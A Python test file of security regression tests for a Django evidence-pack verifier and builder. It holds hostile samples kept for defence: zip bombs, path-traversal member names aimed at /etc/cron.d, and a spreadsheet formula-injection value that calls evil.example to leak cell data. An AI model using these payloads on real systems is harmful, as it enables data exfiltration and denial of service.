"""Regression tests from the security review of the evidence packs: hostile uploads to verify (zip bombs,
encrypted or oddly compressed members, duplicated names, malformed manifests, oversized uploads refused before
they are read) and a slow build the watchdog failed that must not overwrite the attempt that replaced it."""

from __future__ import annotations

import io
import json
import random
import time
import tracemalloc
import zipfile

import pytest
from django.core.cache import cache
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from cek.jobs.progress import progress_key, progress_read
from evidence.models import EvidencePack, PackStatus
from evidence.packs import builder, verify
from evidence.packs.verify import verify_pack_file
from tests.evidence import packs_support
from tests.evidence.packs_support import build, make_fakes, members, request_pack, rezip, zip_bytes
from tests.hostile_files import raw_zip, stored, zip_bomb_pack

pytestmark = pytest.mark.django_db

signing_key, fake_pdf, inventory, us = (
    packs_support.signing_key,
    packs_support.fake_pdf,
    packs_support.inventory,
    packs_support.us,
)


@pytest.fixture
def ready(grc_user, inventory, signing_key, fake_pdf):
    return build(grc_user)


def _patch_central_directory(data: bytes, offset: int, value: bytes) -> bytes:
    """Overwrite ``value`` at ``offset`` of every central directory entry (PK\\x01\\x02)."""
    out = bytearray(data)
    position = out.find(b"PK\x01\x02")
    while position != -1:
        out[position + offset : position + offset + len(value)] = value
        position = out.find(b"PK\x01\x02", position + 4)
    return bytes(out)


def test_a_manifest_that_inflates_to_gigabytes_is_not_read_into_memory(ready, monkeypatch):
    monkeypatch.setattr(verify, "MAX_MANIFEST_BYTES", 64 * 1024)
    files = members(zip_bytes(ready))
    # 2 MB that do not compress (a highly compressible one is refused from the directory as a zip bomb).
    files["manifest.json"] = random.Random(1).randbytes(2 * 1024 * 1024)
    report = verify_pack_file(rezip(files))
    assert not report.ok and any("manifest.json cannot be read" in problem for problem in report.problems)
    assert any("larger than 65,536 bytes" in problem for problem in report.problems)


def _measured(source: io.BytesIO):
    tracemalloc.start()
    started = time.monotonic()
    try:
        report = verify_pack_file(source)
        return report, time.monotonic() - started, tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def test_a_23_mb_zip_bomb_is_refused_from_its_directory_in_bounded_time_and_memory(signing_key):
    bomb = zip_bomb_pack()  # 12 members listed in the manifest, ~2 GB of zeros each
    assert len(bomb) > 23_000_000
    report, elapsed, peak = _measured(io.BytesIO(bomb))
    assert not report.ok and not report.files  # no member was read
    assert any("a zip bomb" in problem and "Nothing was unpacked" in problem for problem in report.problems)
    assert elapsed < 5, f"took {elapsed:.1f} s"  # the target is 2 s; loose for a busy test machine
    assert peak < 200 * 1024 * 1024, f"peak {peak / 2**20:.0f} MB"


def test_members_sharing_one_compressed_stream_are_refused(signing_key):
    data = stored("a.csv", b"x" * 1000)
    archive = bytearray(raw_zip([stored("manifest.json", b"{}"), data, ("b.csv", *data[1:])]))
    with zipfile.ZipFile(io.BytesIO(bytes(archive))) as reader:
        a_offset = reader.getinfo("a.csv").header_offset
    # Point b.csv's directory entry (the third) at a.csv's local header: two names, one stream.
    entry = -1
    for _ in range(3):
        entry = archive.find(b"PK\x01\x02", entry + 1)
    archive[entry + 42 : entry + 46] = a_offset.to_bytes(4, "little")
    report = verify_pack_file(io.BytesIO(bytes(archive)))
    assert any("share their compressed bytes" in problem for problem in report.problems)


def test_a_member_larger_than_listed_is_not_inflated_past_its_listed_size(ready):
    files = members(zip_bytes(ready))
    files["keys.csv"] = random.Random(2).randbytes(8 * 1024 * 1024)  # far larger than listed
    report = verify_pack_file(rezip(files))
    check = next(check for check in report.files if check.name == "keys.csv")
    assert check.status == "size" and "reading stopped" in check.detail
    assert not report.ok


@pytest.mark.parametrize(
    ("offset", "value", "words"),
    [
        (8, b"\x01\x00", "encrypted"),  # general purpose flag bit 0: encrypted, password required
        (10, b"\x63\x00", "compression"),  # method 99 (AES): not supported by zipfile
    ],
)
def test_encrypted_or_unsupported_members_are_reported_not_a_500(ready, offset, value, words):
    report = verify_pack_file(io.BytesIO(_patch_central_directory(zip_bytes(ready), offset, value)))
    assert not report.ok
    assert any(words in problem or "cannot be read" in problem for problem in report.problems)


def test_a_manifest_with_odd_entries_is_reported_not_a_500(ready):
    files = members(zip_bytes(ready))
    document = json.loads(files["manifest.json"])
    document["files"] += [{"name": 7, "sha256": "x", "size": 1}, dict(document["files"][0])]
    document["files"] += [dict(document["files"][0]) for _ in range(50)]
    files["manifest.json"] = json.dumps(document).encode()
    report = verify_pack_file(rezip(files))
    assert not report.ok
    assert any("listed more than once" in problem for problem in report.problems)
    assert sum(1 for check in report.files if check.name == document["files"][0]["name"]) == 1


def test_duplicated_member_names_and_path_tricks_are_reported(ready, tmp_path, monkeypatch):
    cwd = tmp_path / "cwd" / "here"
    cwd.mkdir(parents=True)
    monkeypatch.chdir(cwd)
    data = io.BytesIO(zip_bytes(ready))
    with zipfile.ZipFile(data, "a") as archive, pytest.warns(UserWarning, match="Duplicate name"):
        archive.writestr("keys.csv", b"id\n1\n")
    assert any("more than one file named keys.csv" in p for p in verify_pack_file(data).problems)

    files = members(zip_bytes(ready))
    files["../../evil.txt"] = b"x"
    files["/etc/cron.d/evil"] = b"x"
    report = verify_pack_file(rezip(files))
    assert {"../../evil.txt", "/etc/cron.d/evil"} <= set(report.unlisted)
    assert not list(cwd.iterdir()) and not list(cwd.parent.parent.glob("evil*"))  # nothing extracted


def test_the_verify_page_refuses_an_oversized_upload_before_reading_it(auditor_client, signing_key, settings):
    settings.CEK_PACK_VERIFY_MAX_BYTES = 1024
    big = SimpleUploadedFile("big.zip", b"0" * (200 * 1024), content_type="application/zip")
    response = auditor_client.post(reverse("evidence:pack-verify"), {"file": big})
    assert response.status_code == 413
    assert "the limit is 1,024 bytes" in response.content.decode()
    # Within the envelope allowance, the form still checks the size of what arrived.
    small = SimpleUploadedFile("small.zip", b"0" * 4096, content_type="application/zip")
    response = auditor_client.post(reverse("evidence:pack-verify"), {"file": small})
    assert response.status_code == 200 and "the limit is 1,024 bytes" in response.content.decode()


def _replaced_by_attempt_two(pack_id: int) -> None:
    """While the first build is slow but alive, the watchdog fails it, someone retries, and another worker
    claims the pack: attempt 2 is now the one building."""
    EvidencePack.objects.filter(pk=pack_id).update(status=PackStatus.QUEUED)
    assert builder._claim(pack_id, "task-2")
    cache.set(progress_key(EvidencePack.job, pack_id), {"percent": 7, "phase": "attempt 2", "at": 0})


def test_a_slow_build_failed_by_the_watchdog_does_not_touch_the_attempt_that_replaced_it(
    grc_user, inventory, signing_key, monkeypatch
):
    calls: dict = {}
    collect, render = make_fakes(calls)
    pack = request_pack(grc_user)

    def slow_render(pack, content, data_digest, data_manifest, data_rows=None):
        _replaced_by_attempt_two(pack.pk)
        return render(pack, content, data_digest, data_manifest, data_rows)

    monkeypatch.setattr(builder, "_collect", collect)
    monkeypatch.setattr(builder, "_render", slow_render)
    after = builder.build_pack(pack.pk, task_id="task-1")
    assert after.status == PackStatus.BUILDING and after.attempts == 2 and after.task_id == "task-2"
    assert not after.file and not after.sha256
    assert progress_read(EvidencePack.job, pack.pk)["phase"] == "attempt 2"  # the new attempt's progress is kept
    cache.delete(progress_key(EvidencePack.job, pack.pk))


def test_a_slow_build_that_then_crashes_does_not_fail_the_attempt_that_replaced_it(
    grc_user, inventory, signing_key, monkeypatch
):
    calls: dict = {}
    collect, _ = make_fakes(calls)
    pack = request_pack(grc_user)

    def crashing_render(pack, content, data_digest, data_manifest, data_rows=None):
        _replaced_by_attempt_two(pack.pk)
        raise RuntimeError("the old worker ran out of memory")

    monkeypatch.setattr(builder, "_collect", collect)
    monkeypatch.setattr(builder, "_render", crashing_render)
    after = builder.build_pack(pack.pk, task_id="task-1")
    assert after.status == PackStatus.BUILDING and after.attempts == 2 and after.last_error == ""
    cache.delete(progress_key(EvidencePack.job, pack.pk))


def test_a_key_file_readable_by_others_is_warned_about_and_the_key_never_printed(signing_key, caplog, capsys):
    from django.core.management import call_command

    from evidence.packs import signing

    path = signing.key_path()
    pem = path.read_text()
    path.chmod(0o644)
    with caplog.at_level("WARNING", logger="evidence.packs.signing"):
        signing.app_public_key()
    assert "readable by other users (mode 0o44)" in caplog.text
    call_command("evidence_signing_key", "--no-inventory")
    out, err = capsys.readouterr()
    assert "chmod 600" in err and signing_key.public_key in out
    secret = pem.split("-----")[2].strip()
    assert secret not in out + err + caplog.text
    path.chmod(0o600)
    caplog.clear()
    signing.app_public_key()
    assert "readable by other users" not in caplog.text


def test_the_watchdog_spares_a_build_whose_heartbeat_arrives_while_it_looks(grc_user, us, settings, monkeypatch):
    import datetime as dt

    from django.utils import timezone

    from evidence.packs import jobs

    settings.CEK_PACK_STALE_MINUTES = 15
    now = timezone.now()
    pack = request_pack(grc_user)
    EvidencePack.objects.filter(pk=pack.pk).update(
        status=PackStatus.BUILDING, started_at=now - dt.timedelta(hours=1), heartbeat_at=now - dt.timedelta(hours=1)
    )

    def progress_read(kind, pack_id):  # the slow build reports (and writes its heartbeat) just as the watchdog looks
        EvidencePack.objects.filter(pk=pack_id).update(heartbeat_at=now)
        return None

    monkeypatch.setattr("cek.jobs.progress.progress_read", progress_read)
    assert jobs.packs_fail_stale(now=now) == 0
    assert EvidencePack.objects.get(pk=pack.pk).status == PackStatus.BUILDING


def test_an_archive_with_a_huge_file_list_is_not_opened(signing_key, monkeypatch):
    monkeypatch.setattr(verify, "MAX_CENTRAL_DIRECTORY_BYTES", 10_000)
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as archive:
        for n in range(400):  # ~20 KB of directory entries
            archive.writestr(f"f{n}", b"")
    opened = []
    monkeypatch.setattr(verify.zipfile, "ZipFile", lambda *a, **k: opened.append(a))
    report = verify_pack_file(data)
    assert not opened and "It was not opened" in report.problems[0]


def test_text_that_a_spreadsheet_would_run_is_not_a_formula_in_the_csv_files(
    grc_user, inventory, signing_key, fake_pdf
):
    import csv

    key = inventory["keys"][0]
    type(key).objects.filter(pk=key.pk).update(name='=HYPERLINK("http://evil.example/?"&A1,"x")')
    built = build(grc_user)
    rows = list(csv.DictReader(io.StringIO(members(zip_bytes(built))["keys.csv"].decode())))
    row = next(row for row in rows if int(row["id"]) == key.pk)
    assert row["name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"x")'
    assert all(not value.startswith("=") for row in rows for value in row.values())


def test_text_that_a_spreadsheet_would_run_stays_text_in_keys_xlsx(grc_user, inventory, signing_key, fake_pdf):
    from openpyxl import load_workbook

    key = inventory["keys"][0]
    formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    type(key).objects.filter(pk=key.pk).update(name=formula)
    built = build(grc_user)
    sheet = load_workbook(io.BytesIO(members(zip_bytes(built))["keys.xlsx"]))["keys"]
    header = [c.value for c in sheet[1]]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[header.index("id")].value == key.pk)
    name = row[header.index("name")]
    assert name.value == formula and name.data_type == "s"
    assert all(c.data_type != "f" for r in sheet.iter_rows() for c in r)
